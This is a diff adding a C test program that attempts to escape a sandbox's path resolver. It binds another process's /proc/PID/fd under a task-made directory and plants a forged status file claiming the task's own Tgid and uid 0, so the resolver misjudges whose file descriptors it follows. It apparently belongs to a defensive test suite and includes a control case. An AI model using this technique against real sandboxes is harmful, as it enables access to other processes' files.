@@ -1,0 +1,50 @@
+/* proc_bind_parent.c PID FD NAME UID WORK: another process's /proc/PID/fd directory bound
+ * where its ".." is a directory the task made (review 56).
+ *
+ * At a link of a process's fd (or ns, map_files) directory, PathResolver._may_follow reads the
+ * process's status -- the credentials it judges the link by -- as "../status" relative to the
+ * directory the walk stands in.  The kernel's ".." from the root of a mount is the parent of
+ * the mountpoint (follow_dotdot), not the directory's /proc parent: a task that may mount (the
+ * root of a user namespace of its own, as nobody is once it unshares one) binds PID's fd
+ * directory at WORK/b/fd and writes WORK/b/status, "Tgid: <its own pid>" -- the walk then
+ * takes PID for the task's own process and follows the link.  The program drops to UID,
+ * enters a new user and mount namespace, binds, writes the status, starts a thread
+ * (ESC_THREAD=1: a tree of two tasks, whose calls are handed to the kernel by their canonical
+ * spelling) and opens WORK/b/fd/FD/NAME, FD being a descriptor PID holds of its cwd.
+ * Natively EACCES (PID's credentials are in another user namespace than the task's, which
+ * holds no CAP_SYS_PTRACE there: __ptrace_may_access, cap_ptrace_access_check).  With
+ * ESC_NO_STATUS set no status is written (the control: the walk reads none, refused). */
+#include "attack.h"
+#include <sched.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+
+int main(int argc, char **argv) {
+    if (argc < 6) usage("proc_bind_parent PID FD NAME UID WORK");
+    uid_t uid = (uid_t)atoi(argv[4]);
+    gid_t gid = getgid();
+    if (setresuid(uid, uid, uid)) skipped("setresuid: %s", ename(errno));
+    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);  /* (its /proc/self/uid_map its own to write) */
+    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) skipped("unshare: %s", ename(errno));
+    map_own_ids(uid, gid);
+    char base[512], fds[600], theirs[64], status[600], text[256];
+    snprintf(base, sizeof base, "%s/b%d", argv[5], (int)getpid());
+    snprintf(fds, sizeof fds, "%s/fd", base);
+    snprintf(theirs, sizeof theirs, "/proc/%s/fd", argv[1]);
+    if (mkdir(base, 0755) || mkdir(fds, 0755)) skipped("mkdir %s: %s", fds, ename(errno));
+    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)) skipped("private: %s", ename(errno));
+    if (mount(theirs, fds, NULL, MS_BIND, NULL)) skipped("bind %s: %s", theirs, ename(errno));
+    if (!getenv("ESC_NO_STATUS")) {
+        snprintf(status, sizeof status, "%s/status", base);
+        snprintf(text, sizeof text, "Name:\tx\nTgid:\t%d\nPid:\t%d\nUid:\t0\t0\t0\t0\n"
+                 "Gid:\t0\t0\t0\t0\n", (int)getpid(), (int)getpid());
+        int err = write_file(status, text);
+        if (err < 0) skipped("write %s: %s", status, ename(-err));
+    }
+    idle_thread_if_asked();
+    char path[800];
+    snprintf(path, sizeof path, "%s/%s/%s", fds, argv[2], argv[3]);
+    try_open_at(AT_FDCWD, "WORK/b/fd/FD/NAME (PID's fd bound, a status of ours beside)", path,
+                O_RDONLY);
+    tally_done();
+}
